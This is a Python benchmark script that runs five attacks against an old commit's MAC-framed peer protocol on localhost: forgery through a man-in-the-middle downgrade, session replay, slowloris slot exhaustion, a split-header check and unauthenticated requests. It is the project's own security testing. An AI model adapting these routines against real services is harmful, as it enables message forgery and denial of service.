"""Issue 30's attacks, run against the MAC-framed peer link of an old commit (``b5b9b53``).

Run from the repository root (a git checkout)::

    .venv/bin/python benchmarks/peer_attacks_old.py            # the peer link of b5b9b53
    .venv/bin/python benchmarks/peer_attacks_old.py --rev <commit>

The peer modules of ``--rev`` are loaded from git into a temporary package (as
``bench_peers.py`` does for its baseline); everything runs in this process on 127.0.0.1 with
real servers.  Each line says whether the attack worked on that code; the TLS link of this
checkout is tested against the same attacks in ``core/tests/test_peerlink_attacks.py``:

* forgery: a man in the middle without the secret rewrites the greeting ``QUIREP02`` to
  ``QUIREP01`` and makes the server MAC a refusal whose MAC input equals that of a file
  answer it chose (no length framing between path, header and body);
* replay: a recorded server session, replayed by a fake server after the file changed;
* slowloris: slow clients without the secret hold every connection slot (a byte of the
  request path per 0.3 s, under the 1 s idle timeout); a legitimate fetch meanwhile;
* split header: a genuine request whose 11-byte header arrives in two TCP segments;
* answered without authentication: requests with a wrong MAC get an answer, and a WARNING
  line each.
"""

from __future__ import annotations

import argparse
import importlib
import logging
import os
import shutil
import socket
import struct
import sys
import tempfile
import threading
import time
from pathlib import Path
from typing import Any

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
os.environ.setdefault("JAX_PLATFORMS", "cpu")

from bench_peers import load_peer_modules


def _recv(sock: socket.socket, n: int) -> bytes:
    out = b""
    while len(out) < n:
        got = sock.recv(n - len(out))
        if not got:
            raise ConnectionError(f"closed after {len(out)} of {n} bytes")
        out += got
    return out


def _listener(behave: Any) -> tuple[socket.socket, tuple[str, int]]:
    ls = socket.socket()
    ls.bind(("127.0.0.1", 0))
    ls.listen()

    def run() -> None:
        while True:
            try:
                conn, _ = ls.accept()
            except OSError:
                return
            threading.Thread(target=behave, args=(conn,), daemon=True).start()

    threading.Thread(target=run, daemon=True).start()
    return ls, ls.getsockname()


def forgery(old: Any, wire: Any, tier: Path) -> str:
    secret = os.urandom(32)
    forged = b"attacker-chosen bytes " * 40
    reason = b"bad MAC (not this run's secret, or a replayed request)"
    with old.PeerServer(tier, secret) as server:

        def mitm(conn: socket.socket) -> None:
            up = socket.create_connection(server.address)
            hello = _recv(up, 8 + 32)
            conn.sendall(b"QUIREP01" + hello[8:])  # the downgraded greeting
            _, n, _ = wire.REQ.unpack(_recv(conn, wire.REQ.size))
            path = _recv(conn, n)
            _recv(conn, 32)  # the client's MAC: dropped
            size = len(forged) + wire.ANS.size + len(reason)
            ask = path + wire.ANS.pack(b"O", size) + forged  # a path that ends like an answer
            up.sendall(wire.REQ.pack(b"G", len(ask), 1 << 20) + ask + bytes(32))
            refusal = _recv(up, wire.ANS.size + len(reason) + 32)  # R + reason + its MAC
            conn.sendall(wire.ANS.pack(b"O", size) + forged + refusal)

        ls, where = _listener(mitm)
        try:
            got = old.fetch(where, "f", secret, 5, 1 << 20)
            return f"WORKED: the client accepted {len(got)} bytes, {got[:22]!r}..."
        except Exception as e:
            return f"refused ({type(e).__name__}: {e})"
        finally:
            ls.close()


def replay(old: Any, tier: Path) -> str:
    secret = os.urandom(32)
    (tier / "f").write_bytes(b"version 1")
    with old.PeerServer(tier, secret) as server:
        down = bytearray()

        def relay(conn: socket.socket) -> None:
            up = socket.create_connection(server.address)
            threading.Thread(
                target=lambda: [up.sendall(d) for d in iter(lambda: conn.recv(1 << 16), b"")],
                daemon=True,
            ).start()
            while data := up.recv(1 << 16):
                down.extend(data)
                conn.sendall(data)

        ls, where = _listener(relay)
        assert old.fetch(where, "f", secret, 5, 100) == b"version 1"
        ls.close()
        (tier / "f").write_bytes(b"version 2")

        def fake(conn: socket.socket) -> None:
            conn.sendall(bytes(down[:40]))  # the recorded greeting and nonce
            conn.recv(1 << 16)  # the client's request: the recorded one again
            conn.sendall(bytes(down[40:]))

        ls, where = _listener(fake)
        try:
            got = old.fetch(where, "f", secret, 5, 100)
            now = old.fetch(server.address, "f", secret, 5, 100)
            return f"WORKED: the client accepted {got!r} (the file holds {now!r})"
        except Exception as e:
            return f"refused ({type(e).__name__}: {e})"
        finally:
            ls.close()


def slowloris(old: Any, wire: Any, tier: Path) -> str:
    secret = os.urandom(32)
    (tier / "f").write_bytes(b"x")
    with old.PeerServer(tier, secret, idle_timeout=1.0, max_connections=8) as server:
        stop = threading.Event()
        socks = []
        for _ in range(8):
            s = socket.create_connection(server.address)
            _recv(s, 40)
            s.sendall(wire.REQ.pack(b"G", 4096, 100))  # then the path, a byte at a time
            socks.append(s)

        def drip() -> None:
            while not stop.wait(0.3):
                for s in socks:
                    try:
                        s.send(b"a")
                    except OSError:
                        pass

        threading.Thread(target=drip, daemon=True).start()
        time.sleep(2.0)  # twice the idle timeout
        try:
            old.fetch(server.address, "f", secret, 3, 10)
            out = "held: a legitimate fetch succeeded"
        except Exception as e:
            out = f"WORKED: a legitimate fetch failed ({type(e).__name__}: {e})"
        alive = 0
        for s in socks:
            s.setblocking(False)
            try:
                alive += s.recv(1) != b""
            except BlockingIOError:
                alive += 1
            except OSError:
                pass
        stop.set()
        for s in socks:
            s.close()
        return f"{out}; {alive} of 8 slow connections still open after 2 s (idle timeout 1 s)"


def split_header(old: Any, wire: Any, tier: Path) -> str:
    secret = os.urandom(32)
    (tier / "f").write_bytes(b"x")
    with old.PeerServer(tier, secret) as server, socket.create_connection(server.address) as s:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        nonce = _recv(s, 40)[8:]
        head = wire.REQ.pack(b"G", 1, 100)
        message = head + b"f" + wire.mac(secret, b"req", nonce, 0, head, b"f", b"").digest()
        s.sendall(message[:5])
        time.sleep(0.2)
        s.sendall(message[5:])
        s.settimeout(5)
        try:
            back = s.recv(1)
        except OSError as e:
            back = str(e).encode()
        if back == b"O":
            return "held: the file was served"
        return f"WORKED: the server hung up on a genuine request ({back!r})"


def unauthenticated(old: Any, wire: Any, tier: Path) -> str:
    secret = os.urandom(32)
    (tier / "f").write_bytes(b"x")
    lines: list[str] = []

    class Count(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            if record.levelno >= logging.WARNING:
                lines.append(record.getMessage())

    handler = Count()
    logging.getLogger("quire").addHandler(handler)
    answered = 0
    try:
        with old.PeerServer(tier, secret) as server:
            for _ in range(30):
                with socket.create_connection(server.address, timeout=5) as s:
                    _recv(s, 40)
                    s.sendall(wire.REQ.pack(b"G", 1, 100) + b"f" + bytes(32))
                    answered += s.recv(1) == b"R"
    finally:
        logging.getLogger("quire").removeHandler(handler)
    return (
        f"{'WORKED' if answered else 'held'}: {answered} of 30 requests without the secret "
        f"were answered (a MACed refusal), {len(lines)} WARNING lines"
    )


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--rev", default="b5b9b53", help="the commit whose peer link is attacked")
    a = ap.parse_args()
    work = tempfile.mkdtemp(prefix="peer-attacks-")
    logging.getLogger("quire").addHandler(logging.NullHandler())  # the counts are ours
    logging.getLogger("quire").propagate = False
    try:
        name = load_peer_modules(a.rev, work)
        sys.path.insert(0, work)
        old = importlib.import_module(f"{name}.peerlink")
        wire = importlib.import_module(f"{name}.peerwire")
        assert struct.calcsize("!cHQ") == wire.REQ.size
        print(f"peer link of {a.rev} (Poly1305 bodies available: {wire.FAST})")
        tier = Path(work) / "tier"
        tier.mkdir()
        (tier / "f").write_bytes(b"the genuine file")
        for label, fn in [
            ("forgery", lambda: forgery(old, wire, tier)),
            ("replay", lambda: replay(old, tier)),
            ("slowloris", lambda: slowloris(old, wire, tier)),
            ("split header", lambda: split_header(old, wire, tier)),
            ("unauthenticated", lambda: unauthenticated(old, wire, tier)),
        ]:
            print(f"{label:>15}: {fn()}", flush=True)
    finally:
        shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    main()
